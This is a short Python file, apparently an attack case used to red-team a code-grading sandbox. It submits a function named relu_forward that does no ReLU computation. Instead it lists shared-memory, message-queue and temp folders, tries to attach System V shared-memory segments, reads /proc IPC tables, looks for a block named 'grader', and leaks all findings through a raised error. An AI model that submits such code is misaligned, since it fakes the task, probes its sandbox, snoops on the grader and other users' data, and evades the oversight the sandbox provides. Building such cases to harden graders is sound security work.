# /// attack
# tries = "looks for what others left in shared memory and queues"
# question = "relu_forward"
# ///
# %% question="relu_forward"
def relu_forward(x):
    import ctypes, os
    from multiprocessing import shared_memory

    libc = ctypes.CDLL(None, use_errno=True)
    found = []
    for folder in ("/dev/shm", "/dev/mqueue", "/run", "/var/tmp", "/tmp", "/mnt"):
        try:
            found.append((folder, os.listdir(folder)))
        except OSError as error:
            found.append((folder, str(error)))
    for number in range(2000):
        place = libc.shmat(number, None, 0o10000)
        if place != -1:
            found.append((number, "attached"))
    for path in ("/proc/sysvipc/shm", "/proc/sysvipc/msg", "/proc/net/unix"):
        try:
            found.append(open(path).read().splitlines()[1:])
        except OSError as error:
            found.append(str(error))
    try:
        shared_memory.SharedMemory("grader")
    except OSError as error:
        found.append(str(error))
    raise ValueError(found)
